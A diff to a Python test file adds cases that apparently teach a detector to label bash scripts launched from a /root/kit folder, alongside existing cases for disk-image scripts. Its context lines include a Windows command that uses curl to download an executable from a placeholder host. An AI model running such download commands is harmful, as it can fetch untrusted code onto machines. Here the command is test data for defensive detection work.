@@ -227,6 +227,8 @@ def test_a_root_may_ask_for_its_parent() -> None:
         ("cmd.exe", "cmd /c curl -o a.exe https://a.example/a.exe && echo done",
          "explorer.exe", ""),
         ("cmd.exe", "cmd /c curl https://a.example/ping & echo done", "explorer.exe", ""),
+        ("bash", "/bin/bash /root/kit/setup", "bash", "archive_script"),
+        ("bash", "/bin/bash /root/kit/serve", "bash", ""),
         ("bash", "/bin/bash /Volumes/Contoso/Contoso.file", "zsh", "dmg_script"),
         ("bash", "/bin/bash /Volumes/Contoso/Contoso.file", "launchd", ""),
         ("bash", "/bin/bash /Volumes/Work/projects/a/build", "zsh", ""),
